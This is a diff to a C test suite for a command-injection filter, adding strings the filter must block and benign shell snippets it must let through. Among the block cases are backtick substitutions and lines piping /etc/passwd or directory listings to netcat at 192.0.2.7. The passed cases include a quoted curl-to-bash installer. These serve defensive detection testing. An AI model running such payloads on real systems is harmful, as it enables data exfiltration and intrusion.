@@ -74,6 +74,14 @@ static void blocks_what_becomes_a_command(void **state)
         {"cmdi.spelled", PEN_STR(";wh$()oami")},
         {"cmdi.spelled", PEN_STR(";${PATH:0:1}bin${PATH:0:1}id")},
         {"cmdi.separator", PEN_STR("x|+dir+c:\\")},
+        {"cmdi.substitution", PEN_STR("x`id`")},
+        {"cmdi.substitution", PEN_STR("`id`")},
+        {"cmdi.substitution", PEN_STR("`ls -la | nc 192.0.2.7 80`")},
+        {"cmdi.substitution", PEN_STR("`id | base64`")},
+        {"cmdi.separator", PEN_STR("x `cat /etc/passwd | nc 192.0.2.7 80`")},
+        {"cmdi.separator", PEN_STR("a `b`; cat /etc/passwd")},
+        {"cmdi.separator", PEN_STR("fix `ls | head`; cat /etc/passwd")},
+        {"cmdi.separator", PEN_STR("'`id|sh`'")},
     };
     for (size_t i = 0; i < PEN_COUNT_OF(rows); i++) {
         const struct pen_judgement judgement = filter_case_text(&it, rows[i].text);
@@ -119,6 +127,15 @@ static void stays_silent_on_ordinary_text(void **state)
         {"an image's recipe", PEN_STR("RUN npm ci && npm run build; rm -rf /root/.npm")},
         {"a fence", PEN_STR("```bash\nnpm ci\n```")},
         {"an empty code", PEN_STR("a `` b")},
+        {"a pipe in a comment's code", PEN_STR("Try `cat foo.txt | wc -l`.")},
+        {"a pipe within a sentence", PEN_STR("I'd use `grep -r foo . | wc -l` here.")},
+        {"a pipe at a message's end", PEN_STR("Use `echo $PATH | tr ':' '\\n'` ")},
+        {"a pipe and nothing else", PEN_STR("`ls | head`")},
+        {"a list of processes", PEN_STR("`ps aux | grep node`")},
+        {"code and a substitution behind it", PEN_STR("fix: `rm -rf /tmp/x` in ci; use $(pwd)")},
+        {"code that begins a sentence", PEN_STR("`cat foo.txt | wc -l` prints the count")},
+        {"an installer", PEN_STR("Never do `curl http://h.example/x.sh | bash`, please.")},
+        {"two pieces of code", PEN_STR("Use `ls | head` or `cat x | sort -u`; then push it")},
         {"a sum", PEN_STR("a|+5|-3")},
     };
     for (size_t i = 0; i < PEN_COUNT_OF(rows); i++) {
@@ -149,6 +166,11 @@ static void a_declared_sink_lowers_the_threshold(void **state)
     assert_int_not_equal(filter_case_text(&strict, PEN_S("fish | chips")).verdict, PEN_BLOCK);
     assert_int_equal(filter_case_text(&strict, PEN_S("`true`")).verdict, PEN_BLOCK);
     assert_int_equal(filter_case_text(&strict, PEN_S("/usr/bin/id")).verdict, PEN_BLOCK);
+    assert_int_equal(filter_case_text(&strict, PEN_S("`ls | head`")).verdict, PEN_BLOCK);
+    assert_int_not_equal(
+        filter_case_text(&strict, PEN_S("Pass `:?` to `rm -rf`; replace `$PWD` by `$(pwd)`."))
+            .verdict,
+        PEN_BLOCK);
     assert_int_not_equal(filter_case_text(&strict, PEN_S("```bash\nnpm ci\n```")).verdict,
                          PEN_BLOCK);
     filter_case_close(&strict);
@@ -219,8 +241,8 @@ static void takes_linear_time_whatever_the_text(void **state)
 {
     (void)state;
     static const char *const units[] = {
-        ";",   "|id", "`",  "$(", "${", "$IFS", "';'",  "system('", "() {", "{a,", "A=1 ", "%a",
-        "\\n", "<?",  ":~", "-",  "/",  "\n",   "a``a", ";sudo ",   "$()",  "|+a", ";$a"};
+        ";",   "|id", "`",  "$(", "${", "$IFS", "';'",  "system('", "() {",   "{a,", "A=1 ", "%a",
+        "\\n", "<?",  ":~", "-",  "/",  "\n",   "a``a", "a `b|c` ", ";sudo ", "$()", "|+a",  ";$a"};
     static char text[60000];
     for (size_t u = 0; u < PEN_COUNT_OF(units); u++) {
         struct pen_buf buf = pen_buf_over(text, sizeof(text));
